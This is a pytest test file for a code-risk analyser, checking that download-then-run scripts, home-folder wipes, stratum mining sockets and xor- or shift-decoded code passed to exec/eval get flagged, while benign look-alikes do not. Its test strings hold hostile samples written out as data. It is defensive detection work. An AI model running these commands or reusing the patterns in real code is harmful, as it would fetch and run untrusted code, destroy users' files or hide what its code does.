"""Four kinds of attack the analyses missed on a fresh held-out split (issue 41, third round),
each through the public analysers beside the benign look-alike that must stay quiet:

- a file downloaded (``curl -fsSLo F``, ``curl -O``, ``wget URL``, ``urlretrieve``) and then
  run, also across two command lines of a Python or Node script; a download whose checksum,
  written in the text, is checked before it runs (and the check stops the script) is not;
- a walk of the user's folders that empties or deletes every file; a build tree cleaned, a
  reformat computed from each file, dependency folders pruned are not;
- a plain socket that speaks the stratum mining protocol; a JSON-RPC call to a node is not;
- code built by a hand-written decoder (character codes shifted or xor-ed) and run; the same
  decoder printing its output is not.
"""

from __future__ import annotations

import pytest

from agbom.analysis import analyse, risks
from agbom.analysis.js_code import analyse_js
from agbom.analysis.python_code import analyse_python

DIGEST = "9b1c4e7f2a6d3b8c0e5f1a2d7c4b9e6f3a0d8c5b2e7f4a1c6d3b0e9f8a7c5d2e"


def _shell(text: str) -> set[str]:
    return {r.check for r in risks(analyse(text))}


def _python(text: str) -> set[str]:
    return {r.check for r in analyse_python(text).risks}


def _js(text: str) -> set[str]:
    return {r.check for r in analyse_js(text).risks}


# -- a download saved, then run ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSLo /tmp/setup https://x.example/s\nchmod +x /tmp/setup && /tmp/setup\n",
        't=$(mktemp)\ncurl -fsSL -o "$t" https://x.example/s.sh\nsh "$t"\n',
        'W="$(mktemp -d)"\ncurl -fsSLo "$W/s.sh" https://x.example/s.sh\nbash "$W/s.sh"\n',
        "curl -fsSLO https://x.example/boot.sh\nbash boot.sh\n",
        "curl -fsSL --output-dir /opt -O https://x.example/boot.sh\nsh /opt/boot.sh\n",
        "wget -q https://x.example/agent-setup.sh\nbash agent-setup.sh\n",
        "wget -qP /tmp https://x.example/boot.sh\n. /tmp/boot.sh\n",
        # a checksum checked, but its failure does not stop the script
        f'curl -fsSLo i.sh https://x.example/i.sh\necho "{DIGEST}  i.sh" | sha256sum -c -\n'
        "sh i.sh\n",
        # sums downloaded beside the file pin nothing
        "set -e\ncurl -fsSLO https://x.example/i.sh\ncurl -fsSLO https://x.example/i.sh.sha256\n"
        "sha256sum -c i.sh.sha256\nsh i.sh\n",
    ],
)
def test_a_download_saved_then_run_is_found(text: str) -> None:
    assert "download-exec" in _shell(text), text


@pytest.mark.parametrize(
    "text",
    [
        f'set -eu\ncurl -fsSLo i.sh https://x.example/i.sh\necho "{DIGEST}  i.sh" | '
        "sha256sum -c -\nsh i.sh\n",
        f'curl -fsSLo i.sh https://x.example/i.sh\necho "{DIGEST}  i.sh" | sha256sum --check'
        " && sh i.sh\n",
        f'curl -fsSLo i.sh https://x.example/i.sh\nsha256sum -c <<< "{DIGEST}  i.sh" || '
        "{ echo bad; exit 1; }\nsh i.sh\n",
        f'curl -fsSLo i.sh https://x.example/i.sh\nif echo "{DIGEST}  i.sh" | shasum -a 256 -c;'
        " then sh i.sh; fi\n",
        "curl -fsSLO https://x.example/data.csv\npython3 summary.py data.csv\n",
        "wget -q https://x.example/stations.json\njq . stations.json\n",
    ],
)
def test_a_pinned_or_unrun_download_is_not(text: str) -> None:
    assert "download-exec" not in _shell(text), text


def test_two_command_lines_of_a_script_meet_in_the_file_between_them() -> None:
    python = (
        "import subprocess\n"
        "subprocess.run(['curl', '-fsSLo', '/tmp/i.sh', 'https://x.example/i.sh'])\n"
        "subprocess.run(['bash', '/tmp/i.sh'])\n"
    )
    report = analyse_python(python)
    (found,) = [r for r in report.risks if r.check == "download-exec"]
    assert python[found.source_start :].startswith("subprocess.run(['curl'")  # the download
    node = (
        "const { execSync } = require('child_process');\n"
        "execSync('curl -fsSL -o /tmp/p https://x.example/p.sh');\n"
        "execSync('sh /tmp/p');\n"
    )
    assert "download-exec" in _js(node)
    kept = "import subprocess\nsubprocess.run(['bash', '/tmp/i.sh'])\n"  # never downloaded
    assert "download-exec" not in _python(kept)


def test_a_retrieved_url_run_from_python() -> None:
    text = (
        "import os, subprocess, urllib.request\n"
        "urllib.request.urlretrieve('https://x.example/u.bin', '/tmp/u')\n"
        "os.chmod('/tmp/u', 0o755)\n"
        "subprocess.run(['/tmp/u'])\n"
    )
    assert "download-exec" in _python(text)
    data = (
        "import json, urllib.request\n"
        "urllib.request.urlretrieve('https://x.example/d.json', '/tmp/d.json')\n"
        "print(json.load(open('/tmp/d.json')))\n"
    )
    assert "download-exec" not in _python(data)


# -- a walk of the user's folders that destroys the files ----------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "from pathlib import Path\nfor p in Path.home().rglob('*.py'):\n    p.write_text('')\n",
        "from pathlib import Path\nfor p in (Path.home() / 'code').rglob('*'):\n"
        "    p.write_bytes(b'')\n",
        "import os\nfor d, _, fs in os.walk(os.path.expanduser('~/projects')):\n"
        "    for f in fs:\n        open(os.path.join(d, f), 'w').write('x')\n",
        "import os\nfor d, _, fs in os.walk(os.path.expanduser('~/work')):\n"
        "    for f in fs:\n        os.remove(os.path.join(d, f))\n",
    ],
)
def test_a_walk_that_empties_or_deletes_the_users_files_is_tampering(text: str) -> None:
    assert "file-tampering" in _python(text), text


@pytest.mark.parametrize(
    "text",
    [
        "from pathlib import Path\nfor p in Path('.').rglob('*.py'):\n    p.write_text('')\n",
        "from pathlib import Path\nfor p in Path.home().joinpath('code').rglob('*.py'):\n"
        "    p.write_text(p.read_text().replace('\\t', '    '))\n",
        "import shutil\nfrom pathlib import Path\n"
        "for p in Path.home().glob('projects/*/node_modules'):\n    shutil.rmtree(p)\n",
        "from pathlib import Path\nfor p in (Path.home() / 'code').rglob('*.pyc'):\n"
        "    p.unlink()\n",
        "from pathlib import Path\nfor p in (Path.home() / '.cache' / 'mytool').rglob('*'):\n"
        "    p.unlink()\n",
    ],
)
def test_a_cleanup_or_a_rewrite_of_each_file_is_not(text: str) -> None:
    assert "file-tampering" not in _python(text), text


def test_node_walks_too() -> None:
    wipe = (
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        "const root = path.join(os.homedir(), 'work');\n"
        "for (const f of fs.readdirSync(root, { recursive: true })) "
        "fs.truncateSync(path.join(root, f), 0);\n"
    )
    assert "file-tampering" in _js(wipe)
    rewrite = (
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        "const root = path.join(os.homedir(), 'work');\n"
        "for (const f of fs.readdirSync(root)) {\n"
        "  const p = path.join(root, f);\n"
        "  fs.writeFileSync(p, fs.readFileSync(p, 'utf8').trimEnd() + '\\n');\n"
        "}\n"
    )
    assert "file-tampering" not in _js(rewrite)


# -- a socket that speaks stratum ------------------------------------------------------------------


def test_a_socket_speaking_stratum_is_a_miner() -> None:
    python = (
        "import json, socket, sys\n"
        "s = socket.create_connection(('pool.example.net', 3333))\n"
        "msg = {'id': 2, 'method': 'mining.authorize', 'params': [sys.argv[1], 'x']}\n"
        "s.sendall((json.dumps(msg) + '\\n').encode())\n"
    )
    assert "cryptominer" in _python(python)
    node = (
        "const net = require('net');\n"
        "const c = net.connect(3333, 'pool.example.net', () => {\n"
        "  c.write(JSON.stringify({ id: 1, method: 'mining.subscribe', params: [] }) + '\\n');\n"
        "});\n"
    )
    assert "cryptominer" in _js(node)  # the handler runs once `c` names the connection
    rpc = (
        "import json, socket\n"
        "s = socket.create_connection(('node.example.com', 8545))\n"
        "s.sendall(json.dumps({'jsonrpc': '2.0', 'method': 'eth_blockNumber'}).encode())\n"
    )
    assert "cryptominer" not in _python(rpc)


# -- a hand-written decoder whose output runs ------------------------------------------------------


def test_code_from_a_hand_written_decoder_that_runs_is_decoded_code() -> None:
    shifted = "".join(chr(ord(c) + 1) for c in "console.log(1)")
    node = (
        "function un(s) { let o = ''; for (const c of s) o += String.fromCharCode("
        f"c.charCodeAt(0) - 1); return o; }}\nnew Function(un('{shifted}'))();\n"
    )
    assert "decode-exec" in _js(node)
    mapped = "const k = [99, 111, 110];\neval(k.map((x) => String.fromCharCode(x ^ 0)).join(''));\n"
    assert "decode-exec" in _js(mapped)  # a map's callback gives back what it decodes
    blob = [ord(c) ^ 7 for c in "import os; os.system('id')"]
    python = f"B = {blob}\nexec(''.join(chr(b ^ 7) for b in B))\n"
    assert "decode-exec" in _python(python)
    unknown = "import sys\nexec(''.join(chr(ord(c) - 1) for c in sys.argv[1]))\n"
    assert "decode-exec" in _python(unknown)  # codes computed from data not in the file
    printed = (
        "function un(s) { let o = ''; for (const c of s) o += String.fromCharCode("
        f"c.charCodeAt(0) - 1); return o; }}\nconsole.log(un('{shifted}'));\n"
    )
    assert "decode-exec" not in _js(printed)
    formula = "const f = new Function('row', 'return row.a * 2');\nconsole.log(f({ a: 1 }));\n"
    assert "decode-exec" not in _js(formula)
